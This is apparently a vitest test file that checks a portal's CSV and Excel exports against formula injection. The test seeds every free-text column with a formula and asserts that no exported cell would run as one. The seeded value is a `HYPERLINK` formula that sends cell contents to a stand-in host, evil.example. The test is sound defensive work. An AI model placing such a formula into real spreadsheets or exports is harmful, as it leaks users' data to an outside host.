import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { getTableColumns, getTableName, is, sql, Table } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { everything } from '~/auth/act';
import type { PortalContext } from '~/context';
import { exportTables } from '~/exports/export-tables.server';
import { exportNames } from '~/exports/table';
import { writeExport } from '~/exports/write-export.server';
import * as schema from '~db/schema';
import type { Store } from '~db/store.server';
import { castInto, type Cast } from '../cast';
import { freshStore } from '../database';
import { contextFor, visitAs, type RouteModule, type Visitor } from '../visit';
import { recordEverything } from './records';
import { filledPath, listRoutes } from './route-list';

/*
 * Every file that goes out to a spreadsheet, from a store in which every free text begins like a formula: no cell of any
 * may run as one.
 */
const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"x") `;
const FREE_TEXT =
  /name|title|note|comment|reason|description|summary|number|owner|subject|body|cause|label|step|detail|actor|plan|value_text|email|phone/;
const STARTS_FORMULA = /^\s*[=+\-@＝＋－＠\t\r]/;

let context: PortalContext;
let visitors: Visitor[];
let params: Record<string, string | number>;

beforeAll(async () => {
  const store = await freshStore();
  const cast: Cast = await castInto(store);
  context = contextFor(store);
  const { petra, mona, ada, alan, bruno } = cast.person;
  params = {
    ...(await recordEverything(context, cast, cast.vendor.brittle, bruno)),
  };
  visitors = await Promise.all(
    [petra, mona, ada, alan, bruno].map((person) => visitAs(context, person)),
  );
  await spoil(store);
});

/** Puts a formula before every free text of every table. */
async function spoil(store: Store): Promise<void> {
  const tables = Object.values(schema as Record<string, unknown>).filter((part) => is(part, Table));
  await store.transact(async (tx) => {
    for (const table of tables) {
      for (const column of Object.values(getTableColumns(table))) {
        const words: unknown = column.enumValues;
        const isFree = column.dataType === 'string' && !(Array.isArray(words) && words.length > 0);
        const name = column.name.toLowerCase();
        if (!isFree || !FREE_TEXT.test(name)) continue;
        const place = sql.identifier(snake(column.name));
        await tx.execute(
          sql`update ${sql.identifier(getTableName(table))} set ${place} = ${FORMULA} || ${place} where ${place} is not null`,
        );
      }
    }
  });
}

const snake = (name: string) => name.replace(/[A-Z]/g, (letter) => `_${letter.toLowerCase()}`);

/** Cells of a file that a spreadsheet would run. */
async function runnable(bytes: Buffer, isWorkbook: boolean): Promise<string[]> {
  const isNumber = (text: string) => /^[-+]?\d+(\.\d+)?$/.test(text);
  const cells = isWorkbook ? await workbookCells(bytes) : csvCells(bytes);
  return cells.filter((text) => STARTS_FORMULA.test(text) && !isNumber(text));
}

function csvCells(bytes: Buffer): string[] {
  const rows: string[][] = parse(bytes, { bom: true, relax_column_count: true });
  return rows.flat();
}

async function workbookCells(bytes: Buffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(new Uint8Array(bytes).buffer);
  const cells: string[] = [];
  for (const sheet of book.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => cells.push(cell.formula ? `=${cell.formula}` : cell.text)),
    );
  return cells;
}

async function fileOf(visitor: Visitor, module: RouteModule, url: string) {
  const args = visitor.args(url, params);
  try {
    const answer = await module.loader?.(args);
    return answer instanceof Response && answer.ok ? answer : null;
  } catch (thrown) {
    if (thrown instanceof Response) return null;
    throw thrown;
  }
}

describe('files that go out', () => {
  it('hold no cell that a spreadsheet would run, from any page', async () => {
    const routes = (await listRoutes()).filter(
      ({ path, module }) => /export|remarks$/.test(path) && module.loader !== undefined,
    );
    expect(routes.length).toBeGreaterThan(10);
    let formulas = 0;
    const found: string[] = [];
    const silent: string[] = [];
    for (const { path, module } of routes) {
      for (const format of ['csv', 'xlsx']) {
        const url = `${filledPath(path, params)}?format=${format}`;
        const files = await Promise.all(visitors.map((visitor) => fileOf(visitor, module, url)));
        const file = files.find((answer) => answer !== null);
        if (!file) {
          silent.push(path);
          continue;
        }
        const bytes = Buffer.from(await file.arrayBuffer());
        const isWorkbook = file.headers.get('Content-Type')?.includes('spreadsheetml') ?? false;
        const cells = isWorkbook ? await workbookCells(bytes) : csvCells(bytes);
        formulas += cells.filter((cell) => cell.includes('HYPERLINK')).length;
        found.push(
          ...(await runnable(bytes, isWorkbook)).map((cell) => `${path} ${format}: ${cell}`),
        );
      }
    }
    expect(found).toEqual([]);
    expect(silent).toEqual([]);
    expect(formulas).toBeGreaterThan(20);
  });

  it.each(exportNames)('hold none from the command line either: %s', async (name) => {
    for (const format of ['csv', 'xlsx'] as const) {
      const { columns, chunks } = exportTables[name];
      const stream = new PassThrough();
      const parts: Buffer[] = [];
      stream.on('data', (part: Buffer) => parts.push(part));
      const rows = chunks(context.store.read, everything, { from: null, to: null });
      await writeExport(format, { columns, chunks: rows }, stream);
      expect(await runnable(Buffer.concat(parts), format === 'xlsx')).toEqual([]);
    }
  });
});
